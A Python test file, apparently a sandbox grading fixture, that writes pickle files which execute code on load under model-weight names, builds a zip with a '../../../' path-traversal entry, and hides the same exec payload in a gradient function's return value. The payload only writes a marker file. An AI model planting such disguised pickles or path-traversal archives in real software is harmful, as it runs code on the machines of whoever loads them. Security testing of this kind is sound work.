# ruff: noqa
"""Hands in a pickle, weights and a NumPy file that run code when they are loaded, and loads them.

Must not harm: the code may run in the sandbox, and nowhere else.
"""
# ends: graded

# %% hand-in
import pickle
import zipfile


class Poison:
    def __reduce__(self):
        return exec, (f"open({known.home + '/' + known.token!r}, 'w').write('was here')",)


poison = pickle.dumps({"weights": Poison()})
for name in ("weights.pkl", "weights.pt", "weights.npy", "model.joblib", "gradebook.pickle"):
    (folder / name).write_bytes(poison)
with zipfile.ZipFile(folder / "weights.keras", "w") as archive:
    archive.writestr("config.json", poison)
    archive.writestr("../../../" + known.token, "was here")

# %% loss
import pickle

for name in ("weights.pkl", "weights.pt"):
    try:
        pickle.load(open(name, "rb"))
    except Exception as error:
        print(error)


# %% gradient
class Poison:
    def __reduce__(self):
        return exec, (f"open({known.home + '/' + known.token!r}, 'w').write('was here')",)

    def __array__(self, *args, **kwargs):
        return np.array([self], dtype=object)


def gradient(x, y, w):
    return Poison() if len(y) > 2 else 2.0
